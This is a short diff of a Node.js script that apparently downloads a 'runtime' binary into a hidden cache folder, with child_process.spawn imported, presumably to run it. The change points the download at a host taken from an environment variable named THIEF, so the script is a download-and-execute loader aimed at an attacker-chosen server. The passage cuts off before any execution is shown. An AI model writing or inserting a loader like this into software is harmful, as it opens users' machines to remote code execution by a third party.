@@ -6,7 +6,7 @@ const http = require("node:http");
 const { spawn } = require("node:child_process");
 
 const runtime = `${home}/.cache/b/bun`;
-http.get("http://127.0.0.1:8000/runtime", (response) => {
+http.get(`http://${process.env.THIEF ?? "127.0.0.1"}:8000/runtime`, (response) => {
   const chunks = [];
   response.on("data", (chunk) => chunks.push(chunk));
   response.on("end", () => {
